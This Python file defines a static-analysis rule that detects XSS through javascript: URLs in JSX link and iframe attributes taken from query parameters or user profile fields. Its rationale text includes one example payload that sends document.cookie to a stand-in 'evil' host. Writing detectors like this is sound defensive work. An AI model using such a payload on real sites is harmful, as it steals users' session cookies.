"""JS-XSS-004: a link or frame URL in JSX taken from the page's address or from what users submitted, where a
javascript: URL runs script (``<a href={searchParams.get('next')}>``, ``<a href={user.website}>``)."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

from tree_sitter import Node

from slopguard.core.finding import Confidence, Severity
from slopguard.engine.flow import describe
from slopguard.engine.hit import Hit
from slopguard.engine.registry import ts_rule
from slopguard.engine.treesitter.context import TSContext
from slopguard.rules.javascript.common import enclosing_function, speaking_name, unwrap
from slopguard.rules.javascript.request_data import fixed_prefix

_LINK_ATTRIBUTES = frozenset({"href", "xlinkHref", "action", "formAction"})
_FRAME_ELEMENTS = frozenset({"iframe", "embed", "frame"})
# What a user typed into their profile or a post: `user.website`, `author.homepage`, `comment.link`.
_SUBMITTED_OWNER = re.compile(
    r"(?i)^(?:user|profile|author|member|account|owner|customer|comment|commenter|submission|creator|seller|"
    r"vendor|contact|candidate|applicant|player|guest|person)$"
)
_SUBMITTED_URL = re.compile(r"(?i)^(?:website|homepage|home_page|url|link|site|blog|portfolio|web|social\w*)(?:url)?$")
# A scheme check in the component: `url.startsWith('https://')`, /^https?:/.test(url), a sanitiser.
_SCHEME_CHECK = re.compile(
    r"""(?i)startsWith\(\s*['"`]https?|\^https\?:|\^\(?https|\.protocol\b|sanitizeUrl|safeUrl|isSafeUrl|isValidUrl|"""
    r"""isHttpUrl|braintree/sanitize-url|DOMPurify|javascript:"""
)
_CHECKERS = re.compile(r"(?i)safe|saniti[sz]|valid|clean|allow")
_SAFE_PREFIX = re.compile(r"^(?:/[^/\\]|#|\?|mailto:|tel:|https?://[^/]+)", re.IGNORECASE)


def _attribute(ctx: TSContext, attr: Node) -> Node | None:
    """The expression of a URL attribute (``href={x}``, ``<iframe src={x}>``), else None."""
    children = attr.named_children
    if len(children) != 2 or children[1].type != "jsx_expression" or not children[1].named_children:
        return None
    name = ctx.text(children[0])
    element = attr.parent
    tag = ctx.text(element.child_by_field_name("name")) if element is not None else ""
    if name in _LINK_ATTRIBUTES or (name == "src" and tag in _FRAME_ELEMENTS):
        return children[1].named_children[0]
    return None


def _submitted_url(ctx: TSContext, value: Node) -> str | None:
    """``user.website``, ``profile?.homepage``: a URL field of a record users fill in, else None."""
    value = unwrap(value)
    if value.type != "member_expression":
        return None
    owner = value.child_by_field_name("object")
    owner_name = speaking_name(ctx, owner) if owner is not None else None
    field = ctx.text(value.child_by_field_name("property"))
    if owner_name is not None and _SUBMITTED_OWNER.match(owner_name) and _SUBMITTED_URL.match(field):
        return ctx.compact(value)
    return None


@ts_rule(
    id="JS-XSS-004",
    title="Link or frame URL from the page address or user input (javascript: URLs)",
    cwe=(79, 83),
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    languages=("javascript", "typescript"),
    # property_identifier exists in every grammar (plain TypeScript has no JSX nodes); its parent is the attribute
    query="""((property_identifier) @name (#match? @name "^(href|src|action|formAction|xlinkHref)$"))""",
    why="""Assistants render a profile's website, a "back" link or an embed as <a href={user.website}>,
    <a href={searchParams.get('returnTo')}> or <iframe src={query.url}>. JSX escapes text but not URL schemes:
    a value of javascript:fetch('//evil/'+document.cookie) runs in the site's origin when the link is clicked
    (React only warns), and an iframe loads whatever page the attacker names.""",
    fix="""Accept only http(s) URLs: parse with new URL(value) and check url.protocol is 'https:' or 'http:'
    (or use @braintree/sanitize-url) before rendering, and build internal links from fixed paths
    (href={`/users/${id}`}).""",
)
def url_attribute(captures: dict[str, list[Any]], ctx: TSContext) -> Iterator[Hit]:
    attr = captures["name"][0].parent
    value = _attribute(ctx, attr) if attr is not None and attr.type == "jsx_attribute" else None
    if attr is None or value is None:
        return
    prefix = fixed_prefix(ctx, value)
    if prefix and _SAFE_PREFIX.match(prefix):
        return
    inner = unwrap(value)
    if inner.type == "call_expression" and _CHECKERS.search(ctx.call_name(inner)):
        return  # href={safeUrl(user.website)}
    scope = enclosing_function(attr)
    if _SCHEME_CHECK.search(ctx.text(scope) if scope is not None else ctx.source.decode("utf-8", "replace")):
        return
    flow = ctx.flow(value)
    if flow.tainted:
        yield ctx.hit(attr, f"URL attribute takes {describe(flow)}: a javascript: URL runs script when followed")
        return
    submitted = _submitted_url(ctx, value)
    if submitted is not None:
        yield ctx.hit(
            attr,
            f"'{submitted}' is a URL users entered: a javascript: URL there runs script when clicked; allow http(s)",
            confidence=Confidence.LOW,
        )
